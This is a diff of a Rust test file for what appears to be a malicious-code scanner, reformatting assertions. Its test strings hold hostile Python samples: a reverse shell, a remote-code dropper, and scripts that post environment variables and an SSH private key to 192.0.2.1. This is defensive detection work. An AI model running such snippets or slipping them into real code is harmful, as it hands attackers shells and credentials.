@@ -23,7 +23,11 @@ fn imports_are_resolved() {
 fn model_code_that_shells_out_is_malicious() {
     let source = "import os\nimport torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        os.system('echo hi')\n        return x\n";
     let v = verdicts(source, true);
-    assert!(v.iter().any(|v| v.clearly_malicious && v.evidence.contains("in `M.forward`")), "{v:?}");
+    assert!(
+        v.iter()
+            .any(|v| v.clearly_malicious && v.evidence.contains("in `M.forward`")),
+        "{v:?}"
+    );
     // The same code in a script that nothing loads is not "clearly malicious".
     assert!(verdicts(source, false).is_empty());
 }
@@ -35,13 +39,30 @@ fn the_malicious_classes_are_found_in_any_script() {
     let chars = "exec(''.join(map(chr, [112, 114])))\n";
     assert!(verdicts(chars, false)[0].clearly_malicious);
     let shell = "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')\n";
-    assert!(verdicts(shell, false).iter().any(|v| v.what.contains("reverse shell")));
-    let dropper = "import urllib.request as u\ncode = u.urlopen('http://192.0.2.1/x').read()\nexec(code)\n";
-    assert!(verdicts(dropper, false).iter().any(|v| v.what.contains("fetches")));
+    assert!(
+        verdicts(shell, false)
+            .iter()
+            .any(|v| v.what.contains("reverse shell"))
+    );
+    let dropper =
+        "import urllib.request as u\ncode = u.urlopen('http://192.0.2.1/x').read()\nexec(code)\n";
+    assert!(
+        verdicts(dropper, false)
+            .iter()
+            .any(|v| v.what.contains("fetches"))
+    );
     let thief = "import os, json, requests\nrequests.post('http://192.0.2.1', data=json.dumps(dict(os.environ)))\n";
-    assert!(verdicts(thief, false).iter().any(|v| v.what.contains("credentials")));
+    assert!(
+        verdicts(thief, false)
+            .iter()
+            .any(|v| v.what.contains("credentials"))
+    );
     let keys = "import requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://192.0.2.1', data=key)\n";
-    assert!(verdicts(keys, false).iter().any(|v| v.what.contains("credentials")));
+    assert!(
+        verdicts(keys, false)
+            .iter()
+            .any(|v| v.what.contains("credentials"))
+    );
 }
 
 #[test]
